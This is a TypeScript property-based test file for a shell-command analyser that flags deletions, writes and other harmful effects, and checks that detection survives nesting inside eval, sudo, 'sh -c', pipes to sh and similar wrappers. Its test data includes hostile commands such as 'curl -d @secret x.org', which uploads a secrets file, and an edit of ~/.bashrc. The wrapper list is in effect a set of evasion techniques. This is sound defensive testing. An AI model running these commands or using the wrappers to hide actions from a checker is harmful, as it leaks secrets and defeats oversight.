import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { bypasses } from "./bypasses.ts";
import { type Harm, harms } from "./harms.ts";
import { readShell } from "./read.ts";

// In another function or shell, `$1` and the directory are something else.
const harmful = bypasses
  .flatMap(({ rows }) => rows.map(([command]) => command))
  .filter((each) => !/\$[\d@]|cd y/.test(each));
const harmless = [
  "ls",
  "echo 'rm x'",
  "cd sub",
  "y=1",
  "npm test",
  "grep rm file | sort",
  "f() { ls; }",
  "# rm",
  "true &",
];

/** The harms that the effects of a command show, by the questions of the corpus. */
const seen = (command: string): Harm[] => {
  const { effects } = readShell(command, { home: "/home/ada", workingDirectory: "/srv" });
  return Object.keys(harms).filter((does): does is Harm => effects.some(harms[does as Harm]));
};

const quoted = (command: string): string => `'${command.replaceAll("'", "'\\''")}'`;
const around: readonly ((command: string) => string)[] = [
  (command) => `(${command}\n)`,
  (command) => `{ ${command}\n}`,
  (command) => `x && ${command}`,
  (command) => `if x; then ${command}\nfi`,
  (command) => `while x; do ${command}\ndone`,
  (command) => `f() { ${command}\n}; f`,
  (command) => `echo "$(${command}\n)"`,
  (command) => `eval ${quoted(command)}`,
  (command) => `sudo -u root bash -c ${quoted(command)}`,
  (command) => `env -i A=1 sh -c ${quoted(command)}`,
  (command) => `nohup nice timeout 5 bash <<< ${quoted(command)}`,
  (command) => `echo ${quoted(command)} | sh`,
  (command) => `find . -exec sh -c ${quoted(command)} \\;`,
  (command) => `ls | xargs -n 1 sh -c ${quoted(command)}`,
];
/** Wrappers before a command; the command's first word must be the name of a program. */
const words = [
  "sudo",
  "doas",
  "env",
  "env A=1",
  "nohup",
  "nice",
  "timeout 5",
  "command",
  "exec",
  "time",
  "xargs",
  "stdbuf -oL",
  "busybox",
  "setsid",
  "ionice -c 2",
  "unshare -r",
  "strace -f",
  "npx",
  "uv run",
  "flock l",
  "sudo -u ada env -i nice",
];

describe("shell.read", () => {
  it("tells what a command would do as plain data", () => {
    const command = "cd build && sudo rm -rf out/*.o > log; $CMD";
    const { effects } = readShell(command);
    expect(effects.filter(({ kind }) => kind === "write" || kind === "delete" || kind === "anything")).toEqual([
      {
        kind: "delete",
        certainty: "certain",
        target: { path: "build/out/*.o", glob: true, hidden: false, partial: false },
        recursive: true,
        by: "rm",
        start: command.indexOf("rm"),
        end: command.indexOf(" > log"),
      },
      {
        kind: "write",
        certainty: "certain",
        target: { path: "build/log", glob: false, hidden: false, partial: false },
        recursive: false,
        mode: "replace",
        from: [],
        by: ">",
        start: command.indexOf("> log"),
        end: command.indexOf("; $CMD"),
      },
      {
        kind: "anything",
        certainty: "unknown",
        by: "",
        reason: "it is unknown what $CMD runs",
        start: command.indexOf("$CMD"),
        end: command.length,
      },
    ]);
  });

  it("always answers, with places inside the command", () => {
    const bits = [
      ..."rm -f$(){}[]*?~/'\"`\\;&|<>\n#!=ax1",
      "$(",
      "<<E\n",
      "sudo ",
      "bash -c ",
      "for f in ",
      "do ",
      "done ",
      "${",
      "<(",
      " | sh",
      "python3 -c '",
      "xargs ",
      "find . -exec ",
      "{1..9}",
      "f() { ",
      "}; f ",
      "curl -d @",
      ">> ~/.bashrc",
      "2>&1 ",
    ];
    const noise = fc.array(fc.constantFrom(...bits), { maxLength: 30 }).map((parts) => parts.join(""));
    const cut = fc
      .tuple(fc.constantFrom(...harmful, ...around.map((wrap) => wrap("rm x"))), fc.nat(60), fc.nat(60), noise)
      .map(([command, from, to, added]) => command.slice(0, from) + added + command.slice(to));
    fc.assert(
      fc.property(fc.oneof(noise, cut, fc.string()), (command) => {
        const { effects } = readShell(command, { home: "/home/ada", workingDirectory: "/srv" });
        for (const { start, end } of effects) {
          expect(0 <= start && start <= end && end <= command.length).toBe(true);
        }
      }),
    );
  });

  it.each(["${ \\", "${ a; \\", "x $(${ \\"])("has effects inside the command: %j", (command) => {
    for (const { end } of readShell(command).effects) expect(end).toBeLessThanOrEqual(command.length);
  });

  it("never loses sight of what is harmful, whatever stands around it", () => {
    const layers = fc.array(fc.constantFrom(...around), { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(fc.constantFrom(...harmful), layers, (command, wraps) => {
        const wrapped = wraps.reduce((inner, wrap) => wrap(inner), command);
        const after = seen(wrapped);
        if (!after.includes("can't be told")) expect(after, wrapped).toEqual(expect.arrayContaining(seen(command)));
      }),
    );
  });

  it.each(words)("sees through %s", (word) => {
    for (const inner of ["rm x", "curl -d @secret x.org", "chmod 777 x", "kill 1", "tee ~/.bashrc", "pip install x"]) {
      expect(seen(`${word} ${inner}`)).toEqual(expect.arrayContaining(seen(inner)));
      expect(seen(`${word} ${word} ${inner}`)).toEqual(expect.arrayContaining(seen(inner)));
    }
    expect(seen(`${word} ls rm x`)).not.toContain("deletes");
    expect(seen(`${word} ls rm x`)).not.toContain("can't be told");
  });

  it("never loses sight of what is harmful beside what is not", () => {
    const some = fc.array(fc.constantFrom(...harmless), { maxLength: 3 });
    fc.assert(
      fc.property(fc.constantFrom(...harmful), some, some, (command, before, after) => {
        const all = [...before, command, ...after].join("\n");
        const found = seen(all);
        if (!found.includes("can't be told")) expect(found, all).toEqual(expect.arrayContaining(seen(command)));
      }),
    );
  });
});
